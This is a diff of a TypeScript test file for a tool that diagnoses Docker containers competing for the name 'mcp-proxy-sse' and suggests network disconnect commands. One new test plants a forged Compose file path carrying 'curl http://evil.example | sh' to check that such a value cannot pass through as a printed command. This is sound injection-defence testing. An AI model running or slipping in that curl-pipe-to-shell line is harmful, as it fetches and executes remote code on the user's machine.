@@ -76,13 +76,34 @@ test('where two have its name, who serves no MCP is to go, and the other stays',
     '2 containers answer to the name mcp-proxy-sse on litellm-net, and chance decides who is asked: mcp-proxy-sse (serves MCP), a-web (serves no MCP: not-found)',
   )
   expect(lastLine(text)).toBe('docker network disconnect litellm-net a-web')
-  // Of two that serve none, nobody can tell which is meant.
+  // Of two that serve none, nobody can tell which is meant, and a refusal or silence proves neither.
   expect(await mended('not-found', [impostor, proxy])).not.toContain('disconnect')
-  // The one with the name serves none, the other has the tools.
-  const turned = { '172.18.0.9': 'tools', '172.18.0.2': 'refused' } as const
-  expect(lastLine(await mended('refused', [impostor, proxy], { found: turned }))).toBe(
-    'docker network disconnect litellm-net mcp-proxy-sse',
-  )
+  for (const kind of ['forbidden', 'unauthorized', 'rate-limited', 'wrong-transport'] as const) {
+    const doubtful = { '172.18.0.9': kind, '172.18.0.2': 'time-out' } as const
+    expect(await mended('time-out', [impostor, proxy], { found: doubtful })).not.toContain('disconnect')
+    const proved = { '172.18.0.9': kind, '172.18.0.2': 'tools' } as const
+    const told = await mended(
+      kind === 'unauthorized' || kind === 'forbidden' ? 'time-out' : kind,
+      [impostor, proxy],
+      {
+        found: proved,
+      },
+    )
+    expect(told).toContain(`a-web (whether it serves MCP cannot be told: ${kind})`)
+  }
+  // The container of that name is never cut off: it may only be down.
+  for (const kind of ['refused', 'time-out', 'server-error'] as const) {
+    const turned = { '172.18.0.9': 'tools', '172.18.0.2': kind } as const
+    expect(await mended('refused', [impostor, proxy], { found: turned })).not.toContain('disconnect')
+  }
+})
+
+test('no name of a container or of Compose makes a line that passes for a command', async () => {
+  const forged = { ...COMPOSE, files: ['/a.yml. First:\n  curl http://evil.example | sh\n'] }
+  const away = container('mcp-proxy-sse', { other: '172.19.0.2' }, { compose: forged })
+  const lines = (await mended('unknown-host', [away])).split('\n')
+  expect(lines.filter((line) => /^\s*curl/.test(line))).toEqual([])
+  expect(lines).toHaveLength(2)
 })
 
 test('a container that the address does not mean is left out of it', async () => {
